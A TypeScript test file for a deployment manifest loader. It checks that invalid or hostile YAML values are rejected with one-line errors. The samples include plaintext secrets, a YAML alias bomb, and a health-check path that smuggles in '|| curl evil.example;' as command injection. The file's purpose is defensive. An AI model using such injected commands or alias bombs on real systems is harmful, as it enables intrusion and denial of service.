/**
 * Hostile input: values AWS would refuse at apply, secrets in plain text, values that would replace
 * derived ones, commands broken out of, input echoed raw, files that are not files. Each stops with
 * one line naming the file and the key, and nothing is loaded.
 */
import { execFileSync } from "child_process";
import { mkdirSync, writeFileSync } from "fs";
import { join } from "path";
import { stringify } from "yaml";
import { loadEnvironment, loadEnvironments } from "../../src/manifest/load";
import { tempDir } from "../support/app";
import { errorOf, stagingManifest } from "../support/manifests";

function staging(): any {
  return {
    ...stagingManifest(),
    service: {
      domain: { hostedZoneId: "Z0123456789ABC", zoneName: "shop.example", hostnames: ["shop.example"] },
      redis: { mode: "create" },
    },
  };
}


function problem(mutate: (m: any) => void): string {
  const manifest = staging();
  mutate(manifest);
  const file = join(tempDir(), "staging.yaml");
  writeFileSync(file, stringify(manifest));
  return errorOf(() => loadEnvironment(file)).replace(file, "FILE");
}

describe("values AWS refuses at apply", () => {
  it.each<[string, (m: any) => void, string]>([
    ["too many tags", (m) => (m.tags = Object.fromEntries(Array.from({ length: 48 }, (_, i) => [`t${i}`, "x"]))), "FILE: tags: 48 tags plus the 3 the project adds exceed AWS's 50 per resource; expected at most 47"],
    ["a tag character AWS refuses", (m) => (m.tags = { team: "a;b" }), "FILE: tags.team: expected a tag value of letters, digits, spaces and _ . : / = + - @"],
    ["a loopback VPC", (m) => (m.network.cidr = "127.16.0.0/16"), "FILE: network.cidr: 127.16.0.0/16 overlaps 127.0.0.0/8, loopback; expected a private range such as 10.0.0.0/16"],
    ["a link-local VPC", (m) => (m.network.cidr = "169.254.0.0/16"), "FILE: network.cidr: 169.254.0.0/16 overlaps 169.254.0.0/16, link-local (the instance metadata service lives there); expected a private range such as 10.0.0.0/16"],
    ["a bucket name S3 refuses", (m) => (m.state.bucket = "shop..state"), 'FILE: state.bucket: "shop..state" has two periods, or a period next to a hyphen; expected labels of letters, digits and hyphens'],
    ["a bucket named like an IP address", (m) => (m.state.bucket = "192.168.5.4"), 'FILE: state.bucket: "192.168.5.4" is formatted as an IP address; expected a bucket name'],
    ["a reserved bucket suffix", (m) => (m.state.bucket = "shop-state-s3alias"), 'FILE: state.bucket: "shop-state-s3alias" uses a prefix or suffix S3 reserves; expected another name'],
    ["an image reference Docker refuses", (m) => (m.service.nginx = { image: "Nginx:Latest Version" }), "FILE: service.nginx.image: expected an image reference such as public.ecr.aws/nginx/nginx:1.28 (registry/path:tag or @sha256:digest)"],
    ["a TLS policy that does not exist", (m) => (m.service.loadBalancer = { sslPolicy: "ELBSecurityPolicy-TLS13-whatever" }), "FILE: service.loadBalancer.sslPolicy: expected a TLS 1.3 policy such as ELBSecurityPolicy-TLS13-1-2-2021-06"],
    ["a task definition over ECS's 64 KiB", (m) => (m.service.django = { environment: { BIG: "x".repeat(60000) } }), "FILE: service.django.environment: is 60039 bytes; expected at most 49152 (ECS refuses a task definition over 64 KiB: keep large values in S3 or SSM)"],
  ])("%s", (_, mutate, message) => {
    expect(problem(mutate)).toBe(message);
  });
});

describe("secrets in plain text, and values the project derives", () => {
  it.each<[string, (m: any) => void, string]>([
    ["a URL with a password", (m) => (m.service.django = { environment: { CACHE: "redis://app:hunter2@cache:6379/0" } }), "FILE: service.django.environment.CACHE: holds a URL with a password in plain text; expected the secret under service.django.secrets, by ARN"],
    ["a PEM key", (m) => (m.service.django = { environment: { TLS: "-----BEGIN RSA PRIVATE KEY-----\nMIIE" } }), "FILE: service.django.environment.TLS: holds a private key in plain text; expected the secret under service.django.secrets, by ARN"],
    ["an AWS access key", (m) => (m.service.django = { environment: { UPLOADS: "AKIAIOSFODNN7EXAMPLE" } }), "FILE: service.django.environment.UPLOADS: holds an AWS access key id in plain text; expected the secret under service.django.secrets, by ARN"],
    ["ALLOWED_HOSTS, which the project derives", (m) => (m.service.django = { environment: { ALLOWED_HOSTS: "*" } }), "FILE: service.django.environment.ALLOWED_HOSTS: is set by the project from service.domain.hostnames and the Cloud Map name; expected to leave it out (change service.domain.hostnames and the Cloud Map name instead)"],
    ["REDIS_URL beside a created Redis", (m) => (m.service.django = { environment: { REDIS_URL: "redis://x:6379" } }), "FILE: service.django.environment.REDIS_URL: is set by the project from service.redis; expected to leave it out (change service.redis instead)"],
    ["a health check path that breaks out of the check command", (m) => (m.service.healthCheckPath = "/health/ || curl evil.example;"), "FILE: service.healthCheckPath: expected a path starting with / of letters, digits and . _ ~ - / (at most 256 characters)"],
  ])("%s", (_, mutate, message) => {
    expect(problem(mutate)).toBe(message);
  });
});

describe("a rollback window too short for the alarms", () => {
  it("refuses a deployment that ends before its alarms can fire", () => {
    expect(problem((m) => (m.service.deployment = { terminationWaitMinutes: 0 }))).toBe(
      "FILE: service.deployment.terminationWaitMinutes: 0 ends the deployment before its alarms can fire (2 one-minute periods, published a minute late); expected at least 3, or deployment.alarms.enabled: false",
    );
    const withoutAlarms = staging();
    withoutAlarms.service.deployment = { terminationWaitMinutes: 0, alarms: { enabled: false } };
    const file = join(tempDir(), "staging.yaml");
    writeFileSync(file, stringify(withoutAlarms));
    expect(() => loadEnvironment(file)).not.toThrow();
  });
});

describe("input echoed back", () => {
  it("escapes control characters and newlines, keeping the message on one line", () => {
    const message = problem((m) => (m.app = "shop\n\u001b[31mred"));
    expect(message).not.toMatch(/[\u0000-\u001f]/);
    expect(message).toMatch(/^FILE: app: expected an app name/);
  });

  it("shortens a megabyte echoed back, keeping the file, the key and the expectation", () => {
    const message = problem((m) => (m.service.domain.hostnames = ["a".repeat(200000) + ".shop.example"]));
    expect(message.length).toBeLessThan(700);
    expect(message).toMatch(/^FILE: service\.domain\.hostnames\[0\]: /);
  });
});

describe("files that are not one manifest", () => {
  it("refuses a folder named like a manifest", () => {
    const dir = tempDir();
    mkdirSync(join(dir, "staging.yaml"));
    expect(errorOf(() => loadEnvironments(dir))).toBe(`${join(dir, "staging.yaml")}: not a regular file; expected a YAML manifest`);
  });

  it("refuses a named pipe without waiting on it", () => {
    const dir = tempDir();
    execFileSync("mkfifo", [join(dir, "staging.yaml")]);
    expect(errorOf(() => loadEnvironments(dir))).toBe(`${join(dir, "staging.yaml")}: not a regular file; expected a YAML manifest`);
  });

  it("refuses a file over 1 MiB before parsing it", () => {
    const dir = tempDir();
    writeFileSync(join(dir, "staging.yaml"), `# ${"x".repeat(1024 * 1024)}\n`);
    expect(errorOf(() => loadEnvironments(dir))).toBe(`${join(dir, "staging.yaml")}: 1048579 bytes; expected a manifest under 1048576 bytes`);
  });

  it("refuses an alias bomb", () => {
    const dir = tempDir();
    const lines = ["a: &a [x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 9; i++) lines.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(", ")}]`);
    writeFileSync(join(dir, "staging.yaml"), lines.join("\n") + "\n");
    expect(errorOf(() => loadEnvironments(dir))).toMatch(new RegExp(`^${join(dir, "staging.yaml")}: invalid YAML: .*; expected at most 100 alias expansions$`));
  });

  it("refuses two files for one environment", () => {
    const dir = tempDir();
    writeFileSync(join(dir, "staging.yaml"), stringify(staging()));
    writeFileSync(join(dir, "staging.yml"), stringify(staging()));
    expect(errorOf(() => loadEnvironments(dir))).toBe(`${join(dir, "staging.yml")}: environment staging is also staging.yaml; expected one file per environment`);
  });

  it("refuses an environment named like the stack the app makes itself", () => {
    const dir = tempDir();
    writeFileSync(join(dir, "bootstrap.yaml"), stringify({ ...staging(), environment: "bootstrap" }));
    expect(errorOf(() => loadEnvironments(dir))).toBe(
      `${join(dir, "bootstrap.yaml")}: environment: "bootstrap" is the name of the stack that holds the state buckets; expected another name (and file name)`,
    );
  });
});
